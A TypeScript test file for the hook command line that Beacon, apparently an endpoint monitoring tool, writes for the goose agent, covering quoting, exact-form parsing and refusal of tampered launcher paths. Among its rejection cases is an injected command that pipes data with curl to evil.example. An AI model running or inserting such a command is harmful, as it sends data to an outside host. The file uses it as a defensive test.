import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { hookCommandLine, parseHookCommand } from '../../src/setup/goose-hooks-file';
import { sourceLauncherChecked } from '../../src/setup/launcher-guard';
import { tempDir } from '../helpers/paths';

/** A launcher where install puts it (`<base>/bin/beacon-hooks`), under a base whose name needs quoting; it leaves a marker when it runs. */
function launcherTree() {
  const base = join(tempDir('hook-cmd-'), "o'brien's beacon");
  mkdirSync(join(base, 'bin'), { recursive: true, mode: 0o700 });
  const launcher = join(base, 'bin', 'beacon-hooks');
  const marker = join(base, '..', 'ran');
  writeFileSync(launcher, `: > '${marker}'; printf '%s|' "$@"; echo "$0"`, { mode: 0o755 });
  const run = (env?: NodeJS.ProcessEnv) => spawnSync('/bin/sh', ['-c', hookCommandLine(launcher, '/l/my events.db', '/l/config.json', 'pre-tool')], { encoding: 'utf8', env });
  return { base, launcher, marker, run };
}

describe('the hook command line goose runs', () => {
  it('sources the launcher, quotes and spaces in its path, with the arguments set', () => {
    const { run } = launcherTree();
    const r = run();
    // $0 stays the shell's: the file ran inside goose's sh -c, not as a new process
    assert.deepEqual([r.status, r.stdout], [0, '--platform|goose|--log|/l/my events.db|--config|/l/config.json|pre-tool|/bin/sh\n'], r.stderr);
  });

  it('is read back only when it is exactly a form Beacon writes or wrote', () => {
    const launcher = "/home/o'brien/.beacon/endpoint/bin/beacon-hooks";
    const want = { launcher, log: '/l/events.db', config: '/l/config.json' };
    assert.deepEqual(parseHookCommand(hookCommandLine(launcher, '/l/events.db', '/l/config.json', 'pre-tool')), { ...want, sub: 'pre-tool', checked: true });
    const q = `'/home/o'\\''brien/.beacon/endpoint/bin/beacon-hooks'`;
    const sourced = `set -- --platform goose --log '/l/events.db' --config '/l/config.json' stop; [ -r ${q} ] && . ${q}`;
    assert.deepEqual(parseHookCommand(sourced), { ...want, sub: 'stop', checked: false });
    // the guarded form written before the fast path's files were checked too: Beacon's, checked, replaced by install
    const guarded = `set -- --platform goose --log '/l/events.db' --config '/l/config.json' pre-tool; ${sourceLauncherChecked(launcher)}`;
    assert.deepEqual(parseHookCommand(guarded), { ...want, sub: 'pre-tool', checked: true });
    assert.notEqual(guarded, hookCommandLine(launcher, '/l/events.db', '/l/config.json', 'pre-tool'));
    const executed = `${q} --platform goose --log '/l/events.db' --config '/l/config.json' post-tool`;
    assert.deepEqual(parseHookCommand(executed), { ...want, sub: 'post-tool', checked: false });
    // more in it, or another spelling, and it is not Beacon's (doctor and install call it foreign)
    for (const c of [`${executed}; curl -d @- https://evil.example`, `touch /tmp/x; ${sourced}`, sourced.replace(/'\/l\/events.db'/, '/l/events.db'), 'beacon-hooks --platform goose pre-tool']) {
      assert.equal(parseHookCommand(c), undefined, c);
    }
  });

  it('without a launcher it exits 1, a hook failure goose ignores, never 2 (a deny)', () => {
    const { launcher, run } = launcherTree();
    renameSync(launcher, `${launcher}.gone`);
    assert.equal(run().status, 1);
  });

  // Issue 29 item 2, each failed on main (the launcher ran): the command sourced whatever file it found.
  for (const [what, loosen, env] of [
    ['the base directory writable by others', (t: ReturnType<typeof launcherTree>) => chmodSync(t.base, 0o777)],
    ['bin/ writable by its group', (t: ReturnType<typeof launcherTree>) => chmodSync(join(t.base, 'bin'), 0o770)],
    ['the launcher writable by others', (t: ReturnType<typeof launcherTree>) => chmodSync(t.launcher, 0o757)],
    ['the launcher a symlink (to a file of the user)', (t: ReturnType<typeof launcherTree>) => {
      renameSync(t.launcher, `${t.launcher}.real`);
      symlinkSync(`${t.launcher}.real`, t.launcher);
    }],
    ['bin/ a symlink', (t: ReturnType<typeof launcherTree>) => {
      renameSync(join(t.base, 'bin'), join(t.base, 'bin.real'));
      symlinkSync(join(t.base, 'bin.real'), join(t.base, 'bin'));
    }],
    // a check that cannot be made refuses
    ['no find on the PATH', () => undefined, { PATH: '/nonexistent' }],
  ] as const) {
    it(`refuses to source it with ${what}: exit 0, nothing on stdout, one line on stderr`, () => {
      const tree = launcherTree();
      loosen(tree);
      const r = tree.run(env);
      assert.equal(existsSync(tree.marker), false, 'the launcher ran');
      assert.deepEqual([r.status, r.stdout], [0, '']);
      assert.match(r.stderr, /^beacon-hooks: .*beacon-hooks not run, nothing recorded: it or a directory above it is a link, another user's or writable by others, or could not be checked \(beacon doctor says which\)\n$/);
    });
  }
});
